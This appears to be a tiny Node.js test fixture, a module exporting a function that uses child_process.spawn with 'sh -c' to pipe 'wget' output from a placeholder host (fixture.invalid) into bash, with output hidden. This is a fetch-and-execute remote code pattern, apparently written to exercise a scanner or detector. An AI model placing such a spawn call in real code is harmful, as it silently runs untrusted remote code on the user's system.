// The same, through spawn with sh -c.
const { spawn } = require('child_process');
module.exports = () => spawn('sh', ['-c', 'wget -qO- https://fixture.invalid/x | bash'], { stdio: 'ignore' });
